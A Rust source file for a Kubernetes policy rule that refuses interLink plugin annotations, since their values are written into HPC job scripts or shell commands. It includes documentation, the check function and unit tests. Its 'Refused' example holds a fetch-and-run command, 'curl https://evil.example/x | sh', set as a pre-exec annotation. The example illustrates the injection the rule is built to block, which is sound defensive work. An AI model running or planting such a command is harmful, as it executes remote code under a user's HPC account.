//! # plugin-annotations
//!
//! ## What it refuses
//!
//! Annotations of interLink's plugins, except those in `pluginAnnotations.allowed`:
//!
//! - those whose text a plugin writes into a job script or a shell command: `slurm-job.vk.io/*`,
//!   `docker-options.vk.io/flags`, `htcondor-job.vk.io/*`, `htcondor-job.knoc.io/*` and `fuse.vk.io/*`;
//! - those that plugins no longer read: `job.vk.io/*`, and `slurm-job.knoc.io/*` and the others under `*.knoc.io`.
//!
//! The rule is off by default. An update may remove such annotations, but neither add nor change one. Messages never
//! repeat their values. In an audit, annotations that a field manager in `trustedFieldManagers` owns are accepted:
//! interLink writes `slurm-job.vk.io/pre-exec` in a full mesh.
//!
//! To use the rule, also change the condition `has-or-had-annotations` of the manifests in `deploy`: it excludes
//! objects without interLink's own annotations. Replace the pattern in its last line with
//!
//! ```text
//! '(?i)^([iİ]nterl[iİ]nk[.]|jobid$)|(vk|knoc)[.]io/|fuse.vk.io/'
//! ```
//!
//! ## Why
//!
//! Plugins let users write parts of the job script: anyone who may set such an annotation can run commands at the HPC
//! center under the job's account, outside the container. Use the rule if users should control only the container, or
//! only some of the options. A key that plugins no longer read has no effect, and interLink does not report that.
//!
//! ## How to fix it
//!
//! Remove the annotation. A cluster admin can allow a key for all users in `pluginAnnotations.allowed`.
//!
//! ## Settings
//!
//! - `rules.plugin-annotations`: `Ignore` (the default), `Deny` or `Warn`. The examples below use `Deny`.
//! - `pluginAnnotations.allowed`: keys that users may set, such as `slurm-job.vk.io/flags`. None by default. The
//!   examples below allow `slurm-job.vk.io/image-root`.
//! - `trustedFieldManagers`: the field managers that count as interLink in an audit.
//!
//! ## References
//!
//! - interlink-slurm-plugin 0.6.1, `pkg/slurm/prepare.go`: `produceSLURMScript`.
//! - interlink-docker-plugin, `pkg/docker/Create.go`: runs `docker` with the flags in a shell.
//! - interlink-htcondor-plugin, `handles.py`: the command line of Singularity.
//! - The NATS plugin's Apptainer command builder, `_make_pod_volume_struct`: it searches keys for the regular
//!   expression `fuse.vk.io/([\w-]+)`, which also matches other domains, such as `fuse-vk-io`. The rule refuses all of
//!   them.
//! - Kubernetes' documentation: <https://kubernetes.io/docs/concepts/overview/working-with-objects/annotations/>.
//!
//! ## Refused
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     slurm-job.vk.io/pre-exec: "curl https://evil.example/x | sh"
//! ```
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     job.vk.io/flags: "--time=01:00:00"
//! ```
//!
//! ## Accepted
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     slurm-job.vk.io/image-root: "/cvmfs/images"
//! ```

use super::rule::{POD_ROLES, Rule};
use crate::annotations::{Owner, UNREAD_BY_PLUGINS};
use crate::finding::Findings;
use crate::rule_id::RuleId;
use crate::settings::Settings;
use crate::target::Target;

pub(super) const RULE: Rule = Rule {
    id: RuleId::PluginAnnotations,
    refuses: "plugins' annotations whose text ends up in a job script or a shell command, or that plugins no longer read",
    about_writers: false,
    roles: POD_ROLES,
    check,
};

fn check<'t>(target: &'t Target<'_>, _: &Settings<'_>, findings: &mut Findings<'t>) {
    for annotation in target.annotations().iter().filter(|annotation| annotation.info.is_for_plugins()) {
        // In a full mesh, interLink writes `slurm-job.vk.io/pre-exec`.
        if annotation.owner == Owner::InterLink {
            continue;
        }
        let problem = if annotation.info.key == UNREAD_BY_PLUGINS.key {
            "has no effect, because plugins no longer read it"
        } else {
            "may put text into a job script or a shell command, outside the container"
        };
        findings.push(annotation.finding(problem).fix("remove it, or have it added to pluginAnnotations.allowed"));
    }
}

#[cfg(test)]
mod tests {
    use json_scan::Reader;

    use super::*;
    use crate::annotations::Annotations;
    use crate::kinds::Role;
    use crate::testing::*;

    fn problems(json: &str) -> Vec<String> {
        let settings = settings(json);
        let text = br#"{"slurm-job.vk.io/flags": "-p secret", "job.vk.io/x": "", "other": "x"}"#;
        let text = Reader::new(text).value().unwrap();
        let annotations = Annotations::decode(Some(text), Role::Pod, &|key| settings.look_up(key)).unwrap();
        let pod = builder("Pod", &[]).annotations(annotations).build();
        let findings = RULE.findings(&pod, &settings);
        keys(&findings).into_iter().zip(texts(&findings)).map(|(key, text)| format!("{key} {text}")).collect()
    }

    #[test]
    fn reports_keys_and_never_values() {
        assert_eq!(
            problems(r#"{"rules": {"plugin-annotations": "Deny"}}"#),
            [
                "slurm-job.vk.io/flags may put text into a job script or a shell command, outside the container; \
                 remove it, or have it added to pluginAnnotations.allowed",
                "job.vk.io/x has no effect, because plugins no longer read it; \
                 remove it, or have it added to pluginAnnotations.allowed",
            ]
        );
        assert_eq!(problems("{}"), [""; 0], "the rule is off by default");
    }

    #[test]
    fn accepts_allowed_keys() {
        let allowing = |keys: &str| {
            format!(r#"{{"pluginAnnotations": {{"allowed": {keys}}}, "rules": {{"plugin-annotations": "Warn"}}}}"#)
        };
        assert_eq!(problems(&allowing(r#"["slurm-job.vk.io/flags", "job.vk.io/x"]"#)), [""; 0]);
        assert_eq!(problems(&allowing(r#"["slurm-job.vk.io/flag"]"#)).len(), 2);
    }
}
